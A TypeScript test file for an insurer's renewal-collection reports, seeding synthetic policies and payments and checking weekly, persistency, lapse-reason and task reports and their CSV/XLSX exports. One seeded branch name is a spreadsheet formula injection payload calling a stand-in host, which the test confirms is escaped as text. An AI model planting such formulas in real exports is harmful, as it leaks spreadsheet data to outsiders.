import { mkdtemp, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { appendAudit } from '../../db/repositories/audit';
import { shanghaiInstant } from '../../domain/civil-date';
import { fraction } from '../../domain/kpis';
import { lapseReasonsReport } from '../../reports/lapse-reasons';
import { persistencyReport } from '../../reports/persistency';
import { taskPerformanceReport } from '../../reports/task-performance';
import { weeklyReport, type WeeklyReport } from '../../reports/weekly';
import { runCliCaptured } from '../support/cli';
import { freshDatabase, type TestDatabase } from '../support/database';
import { seedReportOrganisation } from '../support/report-organisation';
import type { Scope } from '../../domain/roles';

/**
 * Hand-built data for the team's reports on real PostgreSQL (organisation: test/support/report-organisation.ts,
 * plus branch 3203 whose name is a formula). Week 2026-W03 = 12–18 January 2026.
 *
 * | no  | issued     | freq       | modal fen | prod | branch | channel       | agent | premium of the report                                                        |
 * | Q01 | 2025-01-12 | annual     | 100000    | WL20 | 3201   | agency        | A001  | inst 2 due 2026-01-12: debit ok 01-12 10:00                                  |
 * | Q02 | 2025-01-14 | monthly    | 10000     | WL20 | 3201   | agency        | A001  | inst 13 due 2026-01-14: debit failed ACCOUNT_CLOSED 01-14; counter 03-14     |
 * | Q03 | 2025-01-15 | annual     | 200000    | CI10 | 3202   | bancassurance | A002  | inst 2 due 2026-01-15: debits failed 01-15, 01-19 00:30; lapsed 02-15 (8);   |
 * |     |            |            |           |      |        |               |       | paid 02-20 after the lapse (a reinstatement)                                 |
 * | Q04 | 2025-01-16 | annual     | 50000     | WL20 | 3202   | agency        | —     | inst 2 due 2026-01-16: counter 01-13, reversed 01-20                          |
 * | Q05 | 2025-01-20 | quarterly  | 30000     | WL20 | 3201   | agency        | A001  | imported with installment 7 next: inst 5 paid before the records             |
 * | Q06 | 2025-02-01 | annual     | 70000     | WL20 | 3203   | internet      | A001  | inst 2 due 2026-02-01: no record, unpaid                                     |
 * | Q07 | 2024-01-10 | annual     | 80000     | WL20 | 3201   | agency        | A001  | inst 2 due 2025-01-10 paid; inst 3 due 2026-01-10: online 01-10              |
 * Tasks: see the list in seed(); the Q07 call's task_opened event (14 January) is earlier than its row (20 January).
 * | Q08 | 2024-01-20 | semiannual | 40000     | CI10 | 3202   | bancassurance | A002  | next installment 3 on file: inst 5 never due in the system                   |
 * | Q09 | 2020-03-01 | annual     | 99900     | WL20 | 3201   | agency        | A001  | due 2026-01-17, waived                                                       |
 * | Q10 | 2019-11-15 | annual     | 90000     | WL20 | 3201   | agency        | A001  | due 2025-11-15: debits failed; lapsed 2026-01-15 (12), written twice          |
 * | Q12 | 2025-03-05 | annual     | 60000     | WL20 | 3201   | agency        | A001  | inst 2 due 2026-03-05: automatic premium loan at 00:00 of 2026-05-05 (D+61)  |
 * | Q11 | 2019-11-16 | annual     | 45000     | WL20 | 3201   | agency        | A001  | due 2025-11-16: no debit; lapsed 2026-01-16, no reason recorded (→ 11)       |
 */
const at = (date: string, time = '00:00') => new Date(shanghaiInstant(date, time));
const FORMULA_BRANCH = '=HYPERLINK("http://x.example/"&A1,"看")';

let t: TestDatabase;
let dir: string;
const ids = new Map<string, number>();

async function seed(db: TestDatabase['db']): Promise<void> {
  const customerId = await seedReportOrganisation(db);
  await db('branches').insert({ code: '3203', name: FORMULA_BRANCH });
  const policies: [string, string, string, number, string, string, string, string | null, number | null][] = [
    ['Q01', '2025-01-12', 'annual', 100000, 'WL20', '3201', 'agency', 'A001', 3],
    ['Q02', '2025-01-14', 'monthly', 10000, 'WL20', '3201', 'agency', 'A001', 14],
    ['Q03', '2025-01-15', 'annual', 200000, 'CI10', '3202', 'bancassurance', 'A002', 2],
    ['Q04', '2025-01-16', 'annual', 50000, 'WL20', '3202', 'agency', null, 2],
    ['Q05', '2025-01-20', 'quarterly', 30000, 'WL20', '3201', 'agency', 'A001', 7],
    ['Q06', '2025-02-01', 'annual', 70000, 'WL20', '3203', 'internet', 'A001', 2],
    ['Q07', '2024-01-10', 'annual', 80000, 'WL20', '3201', 'agency', 'A001', 4],
    ['Q08', '2024-01-20', 'semiannual', 40000, 'CI10', '3202', 'bancassurance', 'A002', 3],
    ['Q09', '2020-03-01', 'annual', 99900, 'WL20', '3201', 'agency', 'A001', 7],
    ['Q10', '2019-11-15', 'annual', 90000, 'WL20', '3201', 'agency', 'A001', 7],
    ['Q11', '2019-11-16', 'annual', 45000, 'WL20', '3201', 'agency', 'A001', 7],
    ['Q12', '2025-03-05', 'annual', 60000, 'WL20', '3201', 'agency', 'A001', 3],
  ];
  await db('policies').insert(
    policies.map(([no, issued, frequency, fen, product, branch, channel, agent, next]) => ({
      policy_no: no,
      product_code: product,
      branch_code: branch,
      channel,
      agent_code: agent,
      holder_customer_id: customerId,
      issue_date: issued,
      payment_frequency: frequency,
      premium_fen: fen,
      next_installment_no: next,
      status: 'in_force',
    })),
  );
  const dues: [string, string, string, number, number, string][] = [
    ['Q01', 'Q01', '2026-01-12', 2, 100000, 'paid'],
    ['Q02', 'Q02', '2026-01-14', 13, 10000, 'paid'],
    ['Q03', 'Q03', '2026-01-15', 2, 200000, 'lapsed'],
    ['Q04', 'Q04', '2026-01-16', 2, 50000, 'due'],
    ['Q07-2', 'Q07', '2025-01-10', 2, 80000, 'paid'],
    ['Q07', 'Q07', '2026-01-10', 3, 80000, 'paid'],
    ['Q09', 'Q09', '2026-01-17', 7, 99900, 'waived'],
    ['Q10', 'Q10', '2025-11-15', 7, 90000, 'lapsed'],
    ['Q11', 'Q11', '2025-11-16', 7, 45000, 'lapsed'],
    ['Q12', 'Q12', '2026-03-05', 2, 60000, 'paid'],
  ];
  for (const [name, policy, due, installment, fen, status] of dues) {
    const [row] = await db('premium_dues').insert({ policy_no: policy, due_date: due, installment_no: installment, amount_fen: fen, status }).returning<{ id: number }[]>('id');
    ids.set(name, row!.id);
  }
  const id = (name: string) => ids.get(name)!;
  const payments: [string, string, Date, Date?][] = [
    ['Q01', 'debit', at('2026-01-12', '10:00')],
    ['Q02', 'counter', at('2026-03-14', '15:00')],
    ['Q03', 'counter', at('2026-02-20', '10:00')],
    ['Q04', 'counter', at('2026-01-13', '10:00'), at('2026-01-20', '09:00')],
    ['Q07-2', 'debit', at('2025-01-10', '10:00')],
    ['Q07', 'online', at('2026-01-10', '20:00')],
    // The automatic premium loan, made as the grace period ran out (D+60 is 4 May).
    ['Q12', 'apl', at('2026-05-05', '00:00')],
  ];
  await db('payments').insert(
    payments.map(([name, via, received, reversed], n) => ({
      premium_due_id: id(name),
      amount_fen: 1,
      via,
      reference: `T${n}`,
      received_at: received,
      reversed_at: reversed ?? null,
      reversal_reason: reversed ? 'REFUSED_BY_DEBTOR' : null,
    })),
  );
  const attempts: [string, number, string, string, string, Date, string | null, number][] = [
    ['Q01', 1, 'ICBC', '2026-01-12', 'succeeded', at('2026-01-12', '10:00'), null, 100000],
    ['Q02', 1, 'ICBC', '2026-01-14', 'failed', at('2026-01-14', '11:00'), 'ACCOUNT_CLOSED', 10000],
    ['Q03', 1, 'CCB', '2026-01-15', 'failed', at('2026-01-15', '11:00'), 'INSUFFICIENT_FUNDS', 200000],
    // Answered after the week's last midnight (Shanghai): next week's.
    ['Q03', 2, 'CCB', '2026-01-18', 'failed', at('2026-01-19', '00:30'), 'INSUFFICIENT_FUNDS', 200000],
    ['Q10', 1, 'ICBC', '2025-11-15', 'failed', at('2025-11-15', '11:00'), 'INSUFFICIENT_FUNDS', 90000],
    ['Q10', 2, 'ICBC', '2025-12-15', 'failed', at('2025-12-15', '11:00'), 'ACCOUNT_CLOSED', 90000],
  ];
  await db('debit_attempts').insert(
    attempts.map(([name, no, bank, collection, status, resolved, reason, fen]) => ({
      premium_due_id: id(name),
      attempt_no: no,
      idempotency_key: `TR${id(name)}A${no}`,
      bank_code: bank,
      amount_fen: fen,
      collection_date: collection,
      status,
      reason,
      resolved_at: resolved,
      workflow_id: `renewal-${name}`,
      run_id: 'r',
      activity_id: 'a',
    })),
  );
  const audit = (kind: 'policy_suspended' | 'customer_refused', policy: string, due: string, when: Date, detail: Record<string, unknown>) =>
    appendAudit(db, { kind, actor: 'test', policyNo: policy, dueDate: due, occurredAt: when, detail });
  await audit('policy_suspended', 'Q10', '2025-11-15', at('2026-01-15'), { nonPaymentReason: 12 });
  await audit('policy_suspended', 'Q10', '2025-11-15', at('2026-01-15', '00:02'), { nonPaymentReason: 12 });
  await audit('policy_suspended', 'Q11', '2025-11-16', at('2026-01-16'), {});
  await audit('policy_suspended', 'Q03', '2026-01-15', at('2026-02-15'), { nonPaymentReason: 8 });
  await audit('customer_refused', 'Q01', '2026-01-12', at('2026-01-10', '10:00'), { reasonCode: 2 });
  await audit('customer_refused', 'Q02', '2026-01-14', at('2026-01-13', '10:00'), { reasonCode: 8 });
  await audit('customer_refused', 'Q02', '2026-01-14', at('2026-01-20', '10:00'), { reasonCode: 6 });
  await audit('customer_refused', 'Q03', '2026-01-15', at('2026-01-18', '10:00'), { reasonCode: 8 });
  await audit('customer_refused', 'Q04', '2026-01-16', at('2026-01-25', '10:00'), { reasonCode: 8 });

  let n = 0;
  const contact = (policy: string, due: string, channel: string, status: string, planned: Date) => ({
    id: `00000000-0000-4000-8000-${String(++n).padStart(12, '0')}`,
    policy_no: policy,
    due_date: due,
    step: `s${n}`,
    channel,
    status,
    workflow_id: `renewal-${policy}`,
    run_id: 'r',
    activity_id: 'a',
    planned_at: planned,
  });
  await db('contact_attempts').insert([
    contact('Q02', '2026-01-14', 'sms', 'delivered', at('2026-01-13', '10:00')),
    contact('Q03', '2026-01-15', 'sms', 'failed', at('2026-01-16', '10:00')),
    contact('Q03', '2026-01-15', 'wechat', 'sent', at('2026-01-16', '10:00')),
    contact('Q02', '2026-01-14', 'phone', 'pending', at('2026-01-18', '23:30')),
    contact('Q04', '2026-01-16', 'sms', 'delivered', at('2026-01-19', '00:10')),
    contact('Q04', '2026-01-16', 'sms', 'delivered', at('2026-01-11', '23:50')),
  ]);
  const task = (
    kind: string,
    step: string,
    policy: string,
    due: string,
    assignee: string | null,
    role: string,
    created: Date,
    dueAt: Date,
    done?: { status: 'done' | 'cancelled' | 'settled'; at: Date; outcome?: string },
  ) => ({
    kind,
    step,
    policy_no: policy,
    due_date: due,
    assignee_agent_code: assignee,
    assignee_role: role,
    created_at: created,
    due_at: dueAt,
    status: done?.status ?? 'open',
    completed_at: done?.at ?? null,
    outcome_code: done?.outcome ?? null,
    workflow_id: `renewal-${policy}-${step}`,
    run_id: 'r',
    activity_id: 'a',
  });
  await db('tasks').insert([
    task('call', 'call_d7', 'Q02', '2026-01-14', 'A001', 'agent', at('2026-01-12', '09:00'), at('2026-01-14', '18:00'), { status: 'done', at: at('2026-01-13', '15:00'), outcome: 'promised' }),
    task('call', 'call_d30', 'Q03', '2026-01-15', null, 'team_lead', at('2026-01-15', '09:00'), at('2026-01-17', '09:00'), { status: 'done', at: at('2026-01-18', '10:00'), outcome: 'refused' }),
    task('fix_account', 'fix_account', 'Q03', '2026-01-15', null, 'operations', at('2026-01-16', '09:00'), at('2026-01-20', '09:00')),
    task('call', 'call_d7', 'Q04', '2026-01-16', 'A001', 'agent', at('2026-01-05', '09:00'), at('2026-01-08', '09:00'), { status: 'done', at: at('2026-01-13', '09:00'), outcome: 'reached' }),
    task('call', 'call_d15', 'Q01', '2026-01-12', 'A001', 'agent', at('2026-01-12', '08:00'), at('2026-01-14', '09:00'), { status: 'cancelled', at: at('2026-01-12', '11:00') }),
    task('call', 'call_d7', 'Q07', '2026-01-10', 'A001', 'agent', at('2026-01-20', '09:00'), at('2026-02-05', '09:00'), { status: 'done', at: at('2026-02-02', '10:00'), outcome: 'no_answer' }),
    // Closed by itself when Q02's premium was paid: settled, not completed by anyone.
    task('fix_contact', 'fix_contact', 'Q02', '2026-01-14', null, 'operations', at('2026-01-12', '10:00'), at('2026-01-14', '10:00'), { status: 'settled', at: at('2026-01-13', '15:30'), outcome: 'premium_paid' }),
    task('declaration', 'declaration', 'Q03', '2026-01-15', null, 'underwriter', at('2026-01-14', '08:00'), at('2026-01-20', '09:00'), { status: 'done', at: at('2026-01-14', '12:00'), outcome: 'done' }),
  ]);
  // The Q07 call was opened on 14 January by the cycle's clock; its row was written on the 20th.
  const q07 = await db('tasks').where({ policy_no: 'Q07' }).first<{ id: number }>('id');
  await appendAudit(db, { kind: 'task_opened', actor: 'test', policyNo: 'Q07', dueDate: '2026-01-10', occurredAt: at('2026-01-14', '09:00'), detail: { taskId: q07.id, step: 'call_d7' } });
}

beforeAll(async () => {
  t = await freshDatabase();
  dir = await mkdtemp(join(tmpdir(), 'renewals-team-reports-'));
  await seed(t.db);
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
  await t?.drop();
});

const f = fraction;

describe('weekly report, 2026-W03 (12–18 January 2026)', () => {
  let report: WeeklyReport;
  beforeAll(async () => {
    report = await weeklyReport(t.db, '2026-W03', { today: '2026-06-30' });
  });

  it('covers Monday to Sunday, as it stood at the end of the week', () => {
    expect(report.parameters).toMatchObject({ week: '2026-W03', from: '2026-01-12', to: '2026-01-18', through: '2026-01-18' });
  });

  it('premiums due in the week and collected by its end (a payment reversed later still stood), waived left out', () => {
    // Due: Q01 100000, Q02 10000, Q03 200000, Q04 50000 (Q09 waived, Q07 due the Saturday before).
    // Collected at the end of 18 January: Q01 and Q04 (reversed only on 20 January).
    expect(report.due).toEqual({ cases: 4, premiumFen: 360_000, collectedCases: 2, collectedPremiumFen: 150_000, byCase: f(2, 4), byPremium: f(150_000, 360_000) });
  });

  it('premiums collected during the week, by how', () => {
    expect(report.collectedInWeek).toEqual([
      { via: 'counter', cases: 1, premiumFen: 50_000 },
      { via: 'debit', cases: 1, premiumFen: 100_000 },
    ]);
  });

  it('debits by outcome and reason, an answer after Sunday midnight left out', () => {
    expect(report.debitsByReason).toEqual([
      { outcome: 'succeeded', reason: null, attempts: 1, amountFen: 100_000 },
      { outcome: 'failed', reason: 'ACCOUNT_CLOSED', attempts: 1, amountFen: 10_000 },
      { outcome: 'failed', reason: 'INSUFFICIENT_FUNDS', attempts: 1, amountFen: 200_000 },
    ]);
    const debits = report.sections.find((s) => s.key === 'debits')!;
    expect(debits.rows.filter((r) => r.reason === '合计 all').map((r) => [r.outcome, r.attempts, r.amount])).toEqual([
      ['成功 succeeded', 1, 100_000],
      ['失败 failed', 2, 210_000],
      ['退回 returned', 0, 0],
    ]);
    expect(report.debitsByBank.map((b) => [b.bankCode, b.succeeded, b.failed])).toEqual([
      ['CCB', 0, 1],
      ['ICBC', 1, 1],
    ]);
  });

  it('contacts planned in the week by channel', () => {
    expect(report.contactsByChannel).toEqual([
      { channel: 'phone', attempts: 1, delivered: 0, sent: 0, failed: 0, suppressed: 0, pending: 1 },
      { channel: 'sms', attempts: 2, delivered: 1, sent: 0, failed: 1, suppressed: 0, pending: 0 },
      { channel: 'wechat', attempts: 1, delivered: 0, sent: 1, failed: 0, suppressed: 0, pending: 0 },
    ]);
  });

  it('tasks opened (by their task_opened event when there is one), completed, settled and cancelled by kind, open at the end', () => {
    expect(report.tasks).toEqual([
      { kind: 'call', opened: 4, completed: 3, settled: 0, cancelled: 1, openAtEnd: 1 },
      { kind: 'declaration', opened: 1, completed: 1, settled: 0, cancelled: 0, openAtEnd: 0 },
      { kind: 'fix_account', opened: 1, completed: 0, settled: 0, cancelled: 0, openAtEnd: 1 },
      { kind: 'fix_contact', opened: 1, completed: 0, settled: 1, cancelled: 0, openAtEnd: 0 },
    ]);
  });

  it('lapses in the week by reason, each premium once', () => {
    expect(report.lapses).toEqual([
      { reason: 12, cases: 1, premiumFen: 90_000 },
      { reason: 11, cases: 1, premiumFen: 45_000 },
    ]);
  });

  it('a week without anything says zero, not nothing', async () => {
    const quiet = await weeklyReport(t.db, '2024-W10', { today: '2026-06-30' });
    expect(quiet.due).toEqual({ cases: 0, premiumFen: 0, collectedCases: 0, collectedPremiumFen: 0, byCase: f(0, 0), byPremium: f(0, 0) });
    expect(quiet.sections.find((s) => s.key === 'lapses')!.rows).toEqual([{ reason: '合计 Total', cases: 0, premium: 0 }]);
  });
});

describe('13- and 25-month persistency', () => {
  it('13 months, cohorts 2025-01…2025-02 by cohort, every case settled by 2026-06-30', async () => {
    const r = await persistencyReport(t.db, { months: 13, by: 'cohort', from: '2025-01', to: '2025-02', asOf: '2026-06-30' });
    // 2025-01: Q01 kept (100000), Q02 kept in grace (10000 × 12), Q03 lost (paid only after the lapse),
    // Q04 lost (its payment was reversed), Q05 kept before the records (30000 × 4). 2025-02: Q06 lost.
    expect(r.groups.map((g) => [g.key.cohort, g.figures.cases, g.figures.keptCases, g.figures.lostCases, g.figures.pendingCases, g.figures.keptBeforeRecords])).toEqual([
      ['2025-01', 5, 3, 2, 0, 1],
      ['2025-02', 1, 0, 1, 0, 0],
    ]);
    expect(r.groups[0]!.figures).toMatchObject({ firstYearPremiumFen: 590_000, keptPremiumFen: 340_000, byCase: f(3, 5), byPremium: f(340_000, 590_000), final: true });
    expect(r.total).toMatchObject({ cases: 6, firstYearPremiumFen: 660_000, keptCases: 3, keptPremiumFen: 340_000, byCase: f(3, 6), byPremium: f(340_000, 660_000), final: true });
  });

  it('seen on 2026-03-15: Q02 already kept, Q04 and Q06 still in grace (pending, not final)', async () => {
    const r = await persistencyReport(t.db, { months: 13, by: 'cohort', from: '2025-01', to: '2025-02', asOf: '2026-03-15' });
    expect(r.total).toMatchObject({ keptCases: 3, lostCases: 1, pendingCases: 2, final: false });
    // Before Q02's counter payment of 14 March it was pending too.
    const earlier = await persistencyReport(t.db, { months: 13, by: 'cohort', from: '2025-01', to: '2025-01', asOf: '2026-03-13' });
    expect(earlier.total).toMatchObject({ keptCases: 2, lostCases: 1, pendingCases: 2 });
  });

  it('by branch, channel and agent', async () => {
    const opts = { months: 13, from: '2025-01', to: '2025-02', asOf: '2026-06-30' } as const;
    const branch = await persistencyReport(t.db, { ...opts, by: 'branch' });
    expect(branch.groups.map((g) => [g.key.branch, g.figures.cases, g.figures.keptCases, g.figures.firstYearPremiumFen, g.figures.keptPremiumFen])).toEqual([
      ['3201', 3, 3, 340_000, 340_000],
      ['3202', 2, 0, 250_000, 0],
      ['3203', 1, 0, 70_000, 0],
    ]);
    const channel = await persistencyReport(t.db, { ...opts, by: 'channel' });
    expect(channel.groups.map((g) => [g.key.channel, g.figures.cases, g.figures.keptCases, g.figures.byPremium])).toEqual([
      ['agency', 4, 3, f(340_000, 390_000)],
      ['bancassurance', 1, 0, f(0, 200_000)],
      ['internet', 1, 0, f(0, 70_000)],
    ]);
    const agent = await persistencyReport(t.db, { ...opts, by: 'agent' });
    expect(agent.groups.map((g) => [g.key.team, g.key.agent, g.figures.cases, g.figures.keptCases])).toEqual([
      ['', '', 1, 0],
      ['T1', 'A001', 4, 3],
      ['T2', 'A002', 1, 0],
    ]);
    expect(agent.personalData).toBe(true);
    expect(channel.personalData).toBe(false);
  });

  it("a person's scope: by branch, team or own agent, or several at once, the figures are those of the policies it covers", async () => {
    const opts = { months: 13, by: 'cohort', from: '2025-01', to: '2025-02', asOf: '2026-06-30' } as const;
    const within = async (...scopes: Scope[]) => {
      const r = await persistencyReport(t.db, { ...opts, scopes });
      return [r.parameters.scope, r.total.cases, r.total.keptCases, r.total.firstYearPremiumFen];
    };
    // 3201: Q01, Q02, Q05 (all kept). T1 is A001's team: those three and Q06 (3203), first-year premium
    // 100 000 + 10 000 × 12 + 30 000 × 4 + 70 000. A002 serves Q03 alone; 3203 holds Q06.
    expect(await within({ kind: 'branch', value: '3201' })).toEqual(['branch:3201', 3, 3, 340_000]);
    expect(await within({ kind: 'team', value: 'T1' })).toEqual(['team:T1', 4, 3, 410_000]);
    expect(await within({ kind: 'own', value: 'A002' })).toEqual(['own:A002', 1, 0, 200_000]);
    expect(await within({ kind: 'branch', value: '3203' }, { kind: 'own', value: 'A002' })).toEqual(['branch:3203, own:A002', 2, 0, 270_000]);
    expect(await within({ kind: 'team', value: 'T-NOBODY' })).toEqual(['team:T-NOBODY', 0, 0, 0]);
    // No scope: the whole insurer, and the report does not claim a scope.
    expect(await within()).toEqual([undefined, 6, 3, 660_000]);
  });

  it('25 months: the third annual premium (Q07), not the second; Q08 never reached it', async () => {
    const r = await persistencyReport(t.db, { months: 25, by: 'cohort', from: '2024-01', to: '2024-01', asOf: '2026-06-30' });
    expect(r.total).toMatchObject({ cases: 2, keptCases: 1, lostCases: 1, firstYearPremiumFen: 160_000, keptPremiumFen: 80_000, byCase: f(1, 2), byPremium: f(80_000, 160_000) });
  });

  it('an automatic premium loan made as grace runs out keeps the policy', async () => {
    const r = await persistencyReport(t.db, { months: 13, by: 'cohort', from: '2025-03', to: '2025-03', asOf: '2026-06-30' });
    expect(r.total).toMatchObject({ cases: 1, keptCases: 1, lostCases: 0, keptPremiumFen: 60_000 });
  });

  it('default cohorts: the twelve issue months ending 13 months before the as-of month', async () => {
    const r = await persistencyReport(t.db, { months: 13, by: 'cohort', asOf: '2026-02-10' });
    expect([r.from, r.to]).toEqual(['2024-02', '2025-01']);
    expect(r.total.cases).toBe(5);
  });
});

describe('lapse reasons', () => {
  it('January 2026: lapses and refusals still unpaid, ranked, top three marked', async () => {
    const r = await lapseReasonsReport(t.db, '2026-01');
    // Lapsed: Q10 (12, 90000), Q11 (none → 11, 45000). Refused and unpaid at the end of January:
    // Q02 (last reason 6), Q03 (8, lapsed only in February), Q04 (8; its payment was reversed). Q01 paid.
    expect(r.reasons.slice(0, 5).map((x) => [x.rank, x.code, x.cases, x.premiumFen, x.top, x.lapsedCases, x.refusedCases])).toEqual([
      [1, 8, 2, 250_000, true, 0, 2],
      [2, 12, 1, 90_000, true, 1, 0],
      [3, 11, 1, 45_000, true, 1, 0],
      [4, 6, 1, 10_000, false, 0, 1],
      [5, 1, 0, 0, false, 0, 0],
    ]);
    expect(r.reasons).toHaveLength(12);
    expect(r.reasons[0]!.share).toEqual(f(2, 5));
    expect(r.debitReasons).toEqual([
      { reason: 'ACCOUNT_CLOSED', cases: 1, premiumFen: 90_000, customerFault: true },
      { reason: '(no failed debit)', cases: 1, premiumFen: 45_000, customerFault: null },
    ]);
    expect(r.sections[0]!.note).toContain('Top three (★): 8 暂时经济困难 Temporary financial difficulty (2); 12 无法联系 Unreachable (1); 11 其他 Other (1)');
  });

  it('February 2026: Q03 lapsed with its refusal reason; its last failed debit', async () => {
    const r = await lapseReasonsReport(t.db, '2026-02');
    expect(r.reasons.filter((x) => x.cases > 0).map((x) => [x.code, x.cases, x.top])).toEqual([[8, 1, true]]);
    expect(r.debitReasons).toEqual([{ reason: 'INSUFFICIENT_FUNDS', cases: 1, premiumFen: 200_000, customerFault: true }]);
  });
});

describe('tasks completed and converted', () => {
  it('January by collector, measured to 31 March: Q02 paid after the promise converted', async () => {
    const r = await taskPerformanceReport(t.db, { month: '2026-01', by: 'collector', asOf: '2026-03-31' });
    expect(r.tallies.map((x) => [x.key, x.completed, x.onTime, x.outcomes, x.converted, x.convertedPremiumFen])).toEqual([
      ['(team_lead)', 1, 0, { refused: 1 }, 0, 0],
      ['A001', 2, 1, { promised: 1, reached: 1 }, 1, 10_000],
    ]);
    expect(r.total).toMatchObject({ completed: 3, onTime: 1, converted: 1, convertedPremiumFen: 10_000, conversionRate: f(1, 3) });
    expect(r.personalData).toBe(true);
  });

  it('measured to 31 January nothing had converted yet', async () => {
    const r = await taskPerformanceReport(t.db, { month: '2026-01', by: 'collector', asOf: '2026-01-31' });
    expect(r.total).toMatchObject({ completed: 3, converted: 0 });
  });

  it('January by agent: the policy’s servicing agent, orphans apart', async () => {
    const r = await taskPerformanceReport(t.db, { month: '2026-01', by: 'agent', asOf: '2026-03-31' });
    expect(r.tallies.map((x) => [x.key, x.completed, x.converted])).toEqual([
      ['T1 / A001', 1, 1],
      ['T2 / A002', 1, 0],
      ['— / — (orphan)', 1, 0],
    ]);
  });

  it('February: a no-answer on a premium already paid is not a conversion', async () => {
    const r = await taskPerformanceReport(t.db, { month: '2026-02', by: 'collector', asOf: '2026-02-28' });
    expect(r.tallies.map((x) => [x.key, x.completed, x.outcomes, x.converted])).toEqual([['A001', 1, { no_answer: 1 }, 0]]);
  });
});

async function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const { code, out, err } = await runCliCaptured(args);
  return { code, stdout: out, stderr: err };
}

const modeOf = async (file: string) => (await stat(file)).mode & 0o777;

describe('renewals report (team reports)', () => {
  beforeAll(() => {
    vi.stubEnv('DATABASE_URL', t.url);
  });
  afterAll(() => {
    vi.unstubAllEnvs();
  });

  it('weekly as a table and as one JSON document', async () => {
    const table = await cli(['report', 'weekly', '--week', '2026-W03']);
    expect(table.code).toBe(0);
    expect(table.stdout).toContain('续期收费周报 Weekly renewal collection report 2026-W03');
    expect(table.stdout).toContain('41.67%'); // 150000 / 360000
    const json = await cli(['report', 'weekly', '--week', '2026-W03', '--json']);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout).due.byPremium).toEqual({ numerator: 150_000, denominator: 360_000, percent: '41.67%' });
  });

  it('lapse-reasons CSV: BOM, the star on the top three', async () => {
    const file = join(dir, 'reasons.csv');
    expect((await cli(['report', 'lapse-reasons', '--month', '2026-01', '--format', 'csv', '--out', file])).code).toBe(0);
    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toMatch(/\r\n1,★,8,暂时经济困难 Temporary financial difficulty,2,40\.00%,2500\.00,0,2\r\n/);
  });

  it('persistency CSV by branch: a branch name that is a formula is written as text', async () => {
    const file = join(dir, 'persistency.csv');
    const run = await cli(['report', 'persistency', '--months', '13', '--by', 'branch', '--from', '2025-01', '--to', '2025-02', '--as-of', '2026-06-30', '--format', 'csv', '--out', file]);
    expect(run.code).toBe(0);
    const text = await readFile(file, 'utf8');
    expect(text).toContain(`3203,"'=HYPERLINK(""http://x.example/""&A1,""看"")"`);
    expect(text).not.toMatch(/(^|,)"?=/m);
    expect(await modeOf(file)).not.toBe(0o600);
  });

  it('persistency by agent and tasks are owner-only files (they rank people); XLSX with a sheet per section', async () => {
    const agentFile = join(dir, 'persistency-agent.json');
    expect((await cli(['report', 'persistency', '--months', '13', '--by', 'agent', '--from', '2025-01', '--as-of', '2026-06-30', '--json', '--out', agentFile])).code).toBe(0);
    expect(await modeOf(agentFile)).toBe(0o600);
    const tasksFile = join(dir, 'tasks.xlsx');
    const run = await cli(['report', 'tasks', '--month', '2026-01', '--by', 'collector', '--as-of', '2026-03-31', '--format', 'xlsx', '--out', tasksFile]);
    expect(run.code).toBe(0);
    expect(await modeOf(tasksFile)).toBe(0o600);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(tasksFile);
    expect(book.worksheets.map((s) => s.name)).toEqual(['about', 'collector']);
    const sheet = book.getWorksheet('collector')!;
    expect(sheet.getRow(3).getCell(1).value).toBe('A001');
    // A001: 2 completed, 1 converted: 0.5; premium 100.00 yuan.
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(sheet.getRow(3).getCell(headers.indexOf('转化率 Conversion rate') + 1).value).toBe(0.5);
    expect(sheet.getRow(3).getCell(headers.indexOf('转化保费 Premium converted (元)') + 1).value).toBe(100);
  });

  it.each([
    [['report', 'weekly', '--week', '2027-W53'], /--week must be an ISO week YYYY-Www \(01 to 52 or 53\), got "2027-W53"/],
    [['report', 'weekly', '--week', '2027-01'], /--week must be an ISO week/],
    [['report', 'lapse-reasons', '--month', '2026-1'], /--month must be a month YYYY-MM, got "2026-1"/],
    [['report', 'persistency', '--months', '12'], /--months must be 13 or 25, got "12"/],
    [['report', 'persistency', '--months', '13', '--by', 'product'], /--by must be one of cohort, branch, channel, agent, got "product"/],
    [['report', 'persistency', '--months', '13', '--to', '2025-01'], /--to needs --from/],
    [['report', 'persistency', '--months', '13', '--from', '2025-03', '--to', '2025-01'], /--to 2025-01 is before --from 2025-03/],
    [['report', 'persistency', '--months', '25', '--as-of', '2026-13-01'], /--as-of must be a date YYYY-MM-DD/],
    [['report', 'tasks', '--month', '2026-01', '--by', 'team'], /--by must be one of collector, agent, got "team"/],
    [['report', 'tasks', '--month', '2026-01', '--as-of', '2025-12-31'], /--as-of 2025-12-31 is before the month 2026-01 begins/],
    [['report', 'tasks', '--month', '2026-01', '--format', 'xlsx'], /--format xlsx needs --out <file>/],
  ])('%j fails in one line', async (args, message) => {
    const { code, stdout, stderr } = await cli(args);
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toMatch(message);
    expect(stderr.trim().split('\n')).toHaveLength(1);
  });
});
